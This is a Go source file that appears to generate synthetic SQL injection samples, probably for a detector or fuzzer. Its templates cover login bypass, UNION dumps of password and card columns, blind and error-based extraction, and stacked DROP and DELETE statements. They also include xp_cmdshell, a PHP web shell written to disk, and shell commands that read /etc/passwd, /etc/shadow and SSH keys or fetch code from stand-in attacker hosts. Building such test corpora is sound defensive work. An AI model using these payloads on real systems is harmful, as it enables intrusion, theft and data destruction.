package south

// attackWords are the slots that only attacks use.
func attackWords() map[string][]string {
	return map[string][]string{
		"q":        split("'|\"|')|'))|\")|`)|%'|' |’"),
		"h":        split("‹num›|‹noun›|‹en-noun›|‹user›|‹email›|‹name›|‹fewwords›|‹slug›|‹uuid›|‹up4›"),
		"h-ascii":  split("‹num›|‹en-noun›|‹user›|‹slug›|‹uuid›|‹up4›"),
		"prose":    split("‹sentence›|‹noun› ‹noun›|‹name›|‹fewwords›|‹user›|‹emoji›"),
		"s":        split(" | | | |/**/|+|\t|\n|  |/*‹letters›*/|\x0b|\u00a0"),
		"tail":     split("--|-- |-- -|#|--+|;--|-- ‹letters›|;\x00|/*|)--|)#"),
		"or":       split("OR|or|Or|oR|‹pipe›‹pipe›|XOR|or not|OR NOT"),
		"and":      split("AND|and|And|aNd|&&"),
		"select":   split("SELECT|select|SeLeCt|sELect|/*!50000SELECT*/|SELECT DISTINCT|select all|selEcT"),
		"union":    split("UNION|union|UnIoN|/*!UNION*/|UNION ALL|union all|unIon(|union distinct"),
		"from":     split("FROM|from|FrOm|from(|/*!FROM*/"),
		"table":    split("users|accounts|information_schema.tables|information_schema.columns|mysql.user|pg_catalog.pg_tables|sqlite_master|admin_users|members|payment_cards|all_tables|sysobjects|wp_users|dual"),
		"column":   split("password|passwd|email|table_name|column_name|card_no|version()|@@version|user()|database()|current_user|api_key|sql|group_concat(table_name)|concat(user,0x3a,password)|string_agg(email,',')"),
		"cols":     split("NULL,NULL|NULL,NULL,NULL|1,2,3|1,2,3,4,5|null,‹column›|1,‹column›,3|‹column›,2,3,4|'a',‹column›,NULL|NULL,CHAR(97),‹column›"),
		"true":     split("1=1|'1'='1'|2>1|'x'='x'|1 LIKE 1|7=7|'a'<'b'|1|true|9 BETWEEN 1 AND 10|1 IN (1)|0x31=0x31|NULL IS NULL|‹50..90›=‹50..90›|3=(2+1)|exists(select 1)"),
		"quoted":   split("'1'='1|'a'='a|'x' like 'x|''='|'‹letters›'!='‹letters›|1=1 and 'z'='z|'7'<'8|\"1\"=\"1"),
		"secs":     split("3|5|7|10|15|20"),
		"shellcmd": split("id|whoami|uname -a|cat /etc/passwd|cat /etc/hosts|ls -la /|ps aux|env|ifconfig|netstat -an|sleep ‹secs›|ping -c ‹3..9› ‹ip›|curl http://‹evil›/‹letters›|wget http://‹evil›/‹letters›.sh -O /tmp/‹letters›|nslookup ‹letters›.‹evil›|tail -n 50 /var/log/auth.log|echo ‹hex8›|printenv|hostname|rm -rf /tmp/‹letters›|touch /tmp/‹letters›|whoami /all|dir C:\\|type C:\\Windows\\win.ini"),
		"unixcmd":  split("id|whoami|uname -a|cat /etc/passwd|ls -la|ps aux|env|sleep ‹secs›|curl http://‹evil›/‹letters›|wget -q http://‹evil›/‹letters› -O- |nslookup ‹letters›.‹evil›|head /etc/shadow|find / -name id_rsa|echo ‹hex8›"),
		"evil":     split("‹letters›.‹oob|collab|dnslog|callback›.‹example|test|invalid›|‹ip›|‹ip›:‹4000..9999›|‹letters›‹num›.evil.example|attacker.‹letters›.example|x.‹letters›.test"),
		"sep":      split(";|&&|‹pipe›‹pipe›|&| ; | && |\n|;;|\n\n"),
	}
}

func attackSQL() []family {
	sqli := func(name string, say ...string) family {
		return family{name: "sqli/" + name, class: "sqli", at: fieldSpots(), say: say}
	}
	return []family{
		sqli("tautology", "‹h›‹q›‹s›‹or›‹s›‹true›‹s›‹tail›", "‹h›'‹s›‹or›‹s›‹quoted›", "‹num›‹s›‹or›‹s›‹true›", "‹h›‹q›‹s›‹and›‹s›‹true›‹tail›", "‹num›)‹s›‹or›‹s›(‹true›"),
		sqli("union-tail", "‹h›‹q›‹s›‹union›‹s›‹select›‹s›‹cols›‹s›‹from›‹s›‹table›‹tail›", "-‹1..9›‹s›‹union›‹s›‹select›‹s›‹cols›‹tail›", "‹num›)‹s›‹union›‹s›‹select›‹s›‹cols›‹s›‹from›‹s›‹table›‹tail›"),
		sqli("login-bypass", "admin'‹s›‹tail›", "‹user›'‹tail›", "admin'‹s›‹or›‹s›‹quoted›", "‹email›'‹s›or‹s›‹true›‹tail›", "' or ''='", "\" or \"\"=\"", "admin')‹s›‹tail›", "'=' 'or'", "admin'/*", "') or ('1'='1"),
		sqli("blind-boolean", "‹num›‹s›‹and›‹s›(‹select›‹s›substring(‹column›,1,1)‹s›‹from›‹s›‹table›‹s›limit 1)='‹letters›", "‹h›'‹s›‹and›‹s›ascii(substr((‹select›‹s›‹column›‹s›‹from›‹s›‹table›‹s›limit ‹0..9›,1),‹1..20›,1))>‹40..120›‹tail›", "‹h›' and length(‹database()|current_user|version()›)=‹1..20›‹tail›", "‹num› and exists(select * from ‹table› where ‹column› like '‹letters›%')", "‹h›' rlike (select (case when (‹num›=‹num›) then 0x‹hex8› else 0x28 end))‹tail›"),
		sqli("blind-time", "‹h›‹q›‹s›‹and›‹s›sleep(‹secs›)‹tail›", "‹num›;waitfor delay '0:0:‹secs›'--", "‹h›';select pg_sleep(‹secs›)--", "‹h›'||(select pg_sleep(‹secs›))||'", "‹num› and (select ‹num› from (select(sleep(‹secs›)))‹letters›)", "if(now()=sysdate(),sleep(‹secs›),0)", "‹h›' and benchmark(‹1..50›000000,md5(1))‹tail›", "‹h›' AND 1=dbms_pipe.receive_message('‹letters›',‹secs›)--", "‹num› OR randomblob(‹1..9›00000000)"),
		sqli("error-based", "‹h›'‹s›and‹s›extractvalue(1,concat(0x7e,(‹select›‹s›‹column›)))‹tail›", "‹num› and updatexml(1,concat(0x7e,‹version()|user()|database()›),1)", "‹h›' and 1=convert(int,(select top 1 ‹column› from ‹table›))--", "‹h›' and 1=cast((select ‹column›) as int)--", "‹num› and (select 1 from(select count(*),concat(‹version()|user()›,floor(rand(0)*2))x from information_schema.tables group by x)a)", "‹h›' and exp(~(select*from(select user())a))‹tail›", "‹h›'||utl_inaddr.get_host_name((select ‹column› from dual))||'"),
		sqli("stacked", "‹h›‹q›;‹s›drop table ‹table›‹tail›", "‹num›; update ‹table› set ‹password|role|email›='‹letters›' where id=‹num›--", "‹h›'; insert into ‹table› values('‹user›','‹letters›')--", "‹h›'); delete from ‹table›; --", "‹num›;exec xp_cmdshell '‹dir|whoami|net user›'--", "‹h›'; exec master..xp_dirtree '\\\\‹evil›\\a'--", "‹h›'; declare @q varchar(99); set @q=0x‹hex16›; exec(@q)--", "‹h›'; copy (select '') to program '‹unixcmd›'--", "‹h›'; truncate table ‹table›;#", "‹num›; shutdown with nowait--"),
		sqli("order-probe", "‹h›'‹s›order‹s›by‹s›‹5..60›‹tail›", "‹num› order by ‹5..99›--", "‹num› group by ‹column› having 1=1--", "‹num› procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)", "‹h›' limit 1,1 into outfile '/var/www/‹letters›.php'‹tail›", "(select(0)from(select(sleep(‹secs›)))v)", "name,(select case when (1=1) then 1 else 1*(select table_name from information_schema.tables) end)"),
		sqli("comment-mask", "‹h›'/**/oR/**/‹true›/*‹letters›*/‹tail›", "‹num›/*!50000uNiOn*//*!50000sElEcT*/‹cols›‹tail›", "‹num›%0aunion%0aselect%0a‹cols›", "‹h›'/*‹letters›*/and/*‹letters›*/1/**/like/**/1#", "‹num›/**/union/*‹letters›*/select/**/‹cols›/**/from/**/‹table›", "‹num›+un/**/ion+se/**/lect+‹cols›", "‹h›'||'1'/**/=/**/'1"),
		sqli("hex-and-char", "‹num› union select 0x‹hex16›,‹cols›", "‹h›' or name=char(‹97..122›,‹97..122›,‹97..122›)‹tail›", "‹h›' and 1=1 and chr(‹65..90›)||chr(‹65..90›)=chr(‹65..90›)‹tail›", "‹num› or unhex('‹hex8›')=0x‹hex8›", "‹h›' union select concat(0x7e,hex(‹column›),0x7e),2 from ‹table›‹tail›", "‹num›-(case when ascii(mid(user(),1,1))=‹97..122› then 0 else 1 end)"),
		sqli("file-access", "‹num› union select load_file('/etc/passwd'),2,3", "‹h›' union select '<?php system($_GET[0]);?>',2 into outfile '/var/www/html/‹letters›.php'‹tail›", "‹h›' into dumpfile '/tmp/‹letters›'#", "‹h›' union select pg_read_file('/etc/passwd')--", "‹h›'; create table ‹letters›(t text); copy ‹letters› from '/etc/passwd'--", "‹h›' bulk insert ‹letters› from 'c:\\boot.ini'--", "‹num› union select utl_http.request('http://‹evil›/'||(select user from dual)) from dual--"),
		sqli("arithmetic-no-quote", "‹num›-(select 0 from ‹table›)", "‹num› div (select 1)", "‹num› or ‹num›=‹num›", "-‹1..9› or ‹num›>‹num›", "‹num›*if(1=1,1,(select table_name from information_schema.tables))", "(‹num›)or(‹true›)", "‹num›^(select(‹column›)from(‹table›))", "~‹num›||(select 1)", "‹num› and 1 in (select ‹column›)"),
		sqli("orm-order", "id;select pg_sleep(‹secs›)", "created_at desc,(select 1 from pg_sleep(‹secs›))", "case when (select substr(‹column›,1,1) from ‹table› limit 1)='‹letters›' then id else name end", "name) union select ‹cols› from ‹table›--", "1 asc, extractvalue(rand(),concat(0x3a,user()))", "id`,(select*from(select sleep(‹secs›))a)#", "price); drop table ‹table›--"),
		sqli("json-operator", "‹h›' and json_extract('{\"a\":1}','$.a')=1‹tail›", "‹h›' or '{\"b\":2}'::jsonb <@ '{\"a\":1,\"b\":2}'::jsonb--", "‹h›' or json_length('{}')<=‹1..9›‹tail›", "‹h›'->>'x' union select ‹cols› from ‹table›--", "‹num› or json_keys('{\"k\":1}') is not null", "‹h›' and @@version->'$.a' is null‹tail›"),
		sqli("subquery-concat", "‹h›'||(select ‹column› from ‹table› limit 1)||'", "‹h›'+(select top 1 ‹column› from ‹table›)+'", "‹h›' + (select @@version) + '", "‹h›'||(select banner from v$version where rownum=1)||'", "‹h›'||cast((select count(*) from ‹table›) as text)||'", "‹h›'%2b(select ‹column›)%2b'"),
		sqli("long-tail-in-prose", "‹sentence›'; ‹select› ‹column› ‹from› ‹table› where ''='", "‹sentence›') union select ‹cols› from ‹table›‹tail›", "‹text› ' or ‹true›‹tail›", "‹name›', (select ‹column› from ‹table› limit 1))‹tail›", "‹name›','x'),('‹user›',(select ‹column› from ‹table›))#"),
		sqli("scientific-and-odd-space", "‹num›e0union‹s›select‹s›‹cols›", "‹1..9›.e(union select ‹cols› from ‹table›", "‹h›'\x0bor\x0b1=1#", "‹h›'\u3000or\u30001=1--", "‹num›\x00' or 1=1--", "‹h›'&&'1'='1", "‹h›'||1=1#", "‹h›'!=0--+", "{‹letters› ‹num›} union select ‹cols›", "‹h›\\' or 1=1#", "‹h›＇ or 1=1--"),
	}
}
